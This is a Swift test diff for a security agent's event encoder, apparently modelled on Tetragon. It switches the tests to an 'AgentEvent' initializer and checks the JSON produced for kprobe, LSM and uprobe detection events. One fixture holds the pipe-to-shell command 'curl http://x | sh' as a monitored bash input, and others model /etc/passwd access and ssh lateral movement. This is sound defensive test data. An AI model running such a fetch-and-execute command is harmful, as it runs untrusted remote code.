@@ -59,7 +59,7 @@ final class EventJSONTests: XCTestCase {
             family: .kprobe, process: p, parent: parent, functionName: "fd_install",
             args: [HookArgument(.int(3), label: "fd"), HookArgument(.file(path: "/etc/passwd", permission: "-rw-r--r--"))],
             action: "KPROBE_ACTION_POST", policyName: "fd-install", message: "sensitive file", tags: ["fim"], timeNs: 1_700_000_000_123_456_789)
-        try check(.hook(e), golden: "process_kprobe.json")
+        try check(AgentEvent(e), golden: "process_kprobe.json")
     }
 
     /// user_ns_arg as Tetragon writes it; `is_host` against the host's user namespace.
@@ -75,7 +75,7 @@ final class EventJSONTests: XCTestCase {
                 HookArgument(.userNamespace(level: 1, uid: 1000, gid: 1000, inum: 4_026_532_600)), HookArgument(.capability(18)),
             ],
             action: "KPROBE_ACTION_POST", policyName: "caps", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
-        let line = encoder.line(.hook(e))
+        let line = encoder.line(AgentEvent(e))
         XCTAssertTrue(
             line.contains(
                 #""args":[{"user_ns_arg":{"level":0,"uid":0,"gid":0,"ns":{"inum":4026531837,"is_host":true}}},"#
@@ -91,7 +91,7 @@ final class EventJSONTests: XCTestCase {
                 HookArgument(.bytes([1, 2, 3], truncated: true, originalSize: 4096)),
             ],
             action: "KPROBE_ACTION_SIGKILL", policyName: "fim", message: nil, tags: [], timeNs: 1_700_000_000_123_456_789)
-        try check(.hook(tp), golden: "process_tracepoint.json")
+        try check(AgentEvent(tp), golden: "process_tracepoint.json")
         let sock = HookArgValue.SocketInfo(
             family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", saddr: "10.0.0.2", daddr: "10.0.0.9",
             sport: 40000, dport: 22, state: "TCP_SYN_SENT")
@@ -99,7 +99,7 @@ final class EventJSONTests: XCTestCase {
             family: .lsm, process: p, parent: nil, functionName: "socket_connect",
             args: [HookArgument(.sock(sock)), HookArgument(.linuxBinprm(path: "/usr/bin/ssh", permission: "-rwxr-xr-x"))],
             action: "KPROBE_ACTION_OVERRIDE", policyName: "no-ssh", message: "lateral movement", tags: ["network"], timeNs: 1_700_000_000_123_456_789)
-        try check(.hook(lsm), golden: "process_lsm.json")
+        try check(AgentEvent(lsm), golden: "process_lsm.json")
     }
 
     /// Tetragon's ProcessUprobe: path and symbol, then policy_name, message, args, tags, action.
@@ -109,13 +109,13 @@ final class EventJSONTests: XCTestCase {
             family: .uprobe, process: p, parent: parent, functionName: "readline", path: "/bin/bash",
             args: [HookArgument(.string("curl http://x | sh"))], action: "KPROBE_ACTION_POST", policyName: "bash-readline",
             message: "interactive command", tags: ["shell"], timeNs: 1_700_000_000_123_456_789)
-        XCTAssertEqual(AgentEvent.hook(e).eventType, "PROCESS_UPROBE")
-        try check(.hook(e), golden: "process_uprobe.json")
+        XCTAssertEqual(AgentEvent(e).eventType, "PROCESS_UPROBE")
+        try check(AgentEvent(e), golden: "process_uprobe.json")
         // placed by file offset: `offset` instead of `symbol` (Tetragon's fields are exclusive)
         var byOffset = e
         byOffset.functionName = ""
         byOffset.offset = 0x1f40
-        let line = EventEncoder(nodeName: "n", hostNamespaces: Namespaces()).line(.hook(byOffset))
+        let line = EventEncoder(nodeName: "n", hostNamespaces: Namespaces()).line(AgentEvent(byOffset))
         XCTAssertTrue(line.contains(#""tags":["shell"],"offset":8000,"action":"KPROBE_ACTION_POST""#), line)
         XCTAssertFalse(line.contains("\"symbol\""), line)
     }
